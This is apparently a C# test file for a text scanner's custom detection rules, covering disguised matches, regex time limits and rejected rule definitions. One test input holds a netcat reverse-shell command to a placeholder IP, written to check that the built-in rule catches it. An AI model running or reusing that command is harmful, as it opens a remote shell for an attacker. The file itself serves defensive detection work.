namespace Symbiont.Scanning.Tests.Rules;

public sealed class CustomRuleTests
{
    [Fact]
    public void A_custom_rule_is_found_beside_the_built_in_ones_and_under_disguise()
    {
        var scanner = SkillScanner.WithCustomRules(new CustomRule("no-frobnicate", @"\bfrobnicate\b", Severity.Warning, "Nobody frobnicates here."));

        var findings = scanner.ScanText("frob\"\"nicate all\nnc -e /bin/sh 203.0.113.9 1\nfrоbnicate\n", "a.sh").Findings;
        Assert.Equal([1, 3], findings.Where(finding => finding.Rule == "no-frobnicate").Select(finding => finding.Line));
        Assert.All(findings.Where(finding => finding.Rule == "no-frobnicate"), finding => Assert.Equal((Severity.Warning, "Nobody frobnicates here."), (finding.Severity, finding.Message)));
        Assert.Contains(findings, finding => finding.Rule == "reverse-shell-nc");
    }

    [Fact]
    public void A_pattern_that_needs_backtracking_runs_with_a_limit_that_is_a_finding()
    {
        var scanner = SkillScanner.WithCustomRules(new CustomRule("slow", @"(a+)+\1$", Severity.High, "Slow."));

        Assert.Contains(scanner.ScanText(new string('a', 5000) + "!", "a.txt").Findings, finding => finding.Rule == "scan-time-limit");
        Assert.Contains(scanner.ScanText("aa", "a.txt").Findings, finding => finding.Rule == "slow");
    }

    [Fact]
    public void A_pattern_that_cannot_be_read_and_a_name_that_is_taken_are_refused()
    {
        Assert.ThrowsAny<ArgumentException>(() => SkillScanner.WithCustomRules(new CustomRule("x", "(", Severity.High, "x")));
        Assert.Throws<ArgumentException>(() => SkillScanner.WithCustomRules(new CustomRule("pipe-to-shell", "x", Severity.High, "x")));
    }
}
